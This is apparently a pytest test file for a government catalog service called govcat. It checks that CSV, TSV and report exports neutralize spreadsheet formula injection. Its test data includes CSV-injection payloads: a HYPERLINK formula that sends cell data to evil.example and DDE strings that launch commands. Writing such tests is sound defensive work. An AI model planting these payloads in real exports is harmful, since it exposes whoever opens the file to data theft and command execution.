"""Formula injection in what govcat exports (ADR 0011): text a steward typed that a spreadsheet
would run as a formula (`=`, `+`, `-`, `@`, tab, CR; OWASP) is stored as typed, and every CSV
govcat writes neutralizes it with a leading `'`: query answers, ad-hoc answers, SPARQL CSV and
TSV, and the R-18 monitoring report. One helper does it (catalog.csvsafe); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rdflib import Graph

from catalog import csvsafe
from catalog.store.falkordb_server import FalkorServer
from tests.support.robustness import BASE, World, build_world

# Stored as Persian titles, so each holds a Persian letter (ADR 0025) after its formula sign.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"کلیک")', "+cmd|' /C calc'!A0 ثبت",
            "-2+3+cmd|' /C calc'!A0 ثبت", "@SUM(1+1)*cmd|' /C calc'!A0 ثبت", "\t=1+1 ثبت",
            "\r=1+1 ثبت", "=1+1 ثبت", "\uff1d1+1 ثبت", "-", "@"]


def test_neutralize() -> None:
    for text in FORMULAS:
        assert csvsafe.neutralize(text) == "'" + text
    for text in ("سازمان ثبت", "a=b", " =1", "'=1", "", "1-2 of 3", "REG"):
        assert csvsafe.neutralize(text) == text
    for number in ("-5", "+1.5e3", "-0.25", ".5", "-12.", 7, -7, 2.5, None, True):
        assert csvsafe.neutralize(number) == number


@given(st.text(max_size=20), st.text(max_size=20))
@settings(max_examples=200, deadline=None, derandomize=True, database=None)
def test_no_written_cell_starts_a_formula(a: str, b: str) -> None:
    buf = io.StringIO()
    w = csvsafe.writer(buf)
    w.writerow([a, b])
    w.writerows([[b, 3], [-4, a]])
    for row in csv.reader(io.StringIO(buf.getvalue())):
        for cell in row:
            assert _safe(cell), cell


def _safe(cell: str) -> bool:
    return not cell.startswith(csvsafe.FORMULA_STARTS) or csvsafe.neutralize(cell) == cell


def _cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


@pytest.fixture(scope="module")
def world(falkor_server: FalkorServer, tmp_path_factory: pytest.TempPathFactory) -> World:
    """The two-agency catalog, and an agency, duties and a service named like formulas."""
    w = build_world(falkor_server, "csvsafe", tmp_path_factory.mktemp("csvsafe"))
    put = [("agencies", {"code": "EVL", "name_fa": FORMULAS[0], "name_en": FORMULAS[1],
                         "kind": "organization"})]
    put += [("duties", {"agency_code": "EVL", "ref": f"D{i}", "title_fa": f, "legal_basis":
                        "قانون نمونه، ماده ۱"}) for i, f in enumerate(FORMULAS[:8])]
    for kind, body in put:
        r = w.http.put(f"/resources/{kind}", json=body, headers=w.as_())
        assert r.status_code == 201, r.text
    return w


def test_formulas_are_stored_as_typed(world: World) -> None:
    r = world.http.get("/resource", params={"iri": f"{BASE}agency/EVL/duty/D0",
                                            "format": "json"}, headers=world.as_())
    assert FORMULAS[0] in r.json()["properties"].values()


def test_query_answers_as_csv_are_neutralized(world: World) -> None:
    named = world.http.get("/queries/unrealized-duties", params={"agency": "agency/EVL",
                                                                 "format": "csv"},
                           headers=world.as_("auditor"))
    assert named.status_code == 200, named.text
    cells = _cells(named.text)
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[2] in cells
    assert all(_safe(c) for c in cells)
    adhoc = world.http.post("/queries/adhoc", json={
        "cypher": "MATCH (n:Resource) WHERE n.iri STARTS WITH $p "
                  "RETURN n.`title@fa` AS `=title`, -3 AS num, '-3' AS t ORDER BY n.iri",
        "params": {"p": f"{BASE}agency/EVL/"}, "format": "csv"}, headers=world.as_("auditor"))
    assert adhoc.status_code == 200, adhoc.text
    rows = list(csv.reader(io.StringIO(adhoc.text)))
    assert rows[0] == ["'=title", "num", "t"]  # a column named like a formula, too
    assert all(_safe(c) for row in rows for c in row) and rows[1][1:] == ["-3", "-3"]


def test_sparql_csv_and_tsv_are_neutralized(world: World) -> None:
    query = (f"SELECT ?t WHERE {{ ?d <http://purl.org/dc/terms/title> ?t "
             f"FILTER(STRSTARTS(STR(?d), \"{BASE}agency/EVL/\")) }}")
    h = world.as_("auditor")
    as_csv = world.http.get("/sparql", params={"query": query, "format": "csv"}, headers=h)
    assert as_csv.status_code == 200, as_csv.text
    cells = _cells(as_csv.text)
    assert len(cells) >= 8 and all(_safe(c) for c in cells)
    as_tsv = world.http.get("/sparql", params={"query": query, "format": "tsv"}, headers=h)
    lines = as_tsv.text.splitlines()[1:]
    assert len(lines) >= 8
    for line in lines:
        # a spreadsheet strips the quotes; the first character is then no formula sign
        assert not line.strip('"').startswith(csvsafe.FORMULA_STARTS), line
    # the TSV is still the same literals to an RDF reader
    g = Graph().parse(data="\n".join(f"<{BASE}s> <{BASE}p> {t} ." for t in lines), format="nt")
    assert {str(o) for o in g.objects()} >= {f for f in FORMULAS[:8] if f.strip() == f
                                             or f.startswith("\t")} - {FORMULAS[4]}


def test_the_monitoring_report_is_neutralized(world: World, tmp_path: Path) -> None:
    for fmt in ("csv", "findings"):
        r = world.http.get("/reports/monitoring", params={"period": "1404-H1", "format": fmt},
                           headers=world.as_("auditor"))
        assert r.status_code == 200, r.text
        cells = _cells(r.text)
        assert all(_safe(c) for c in cells)
        if fmt == "csv":
            assert "'" + FORMULAS[0] in cells
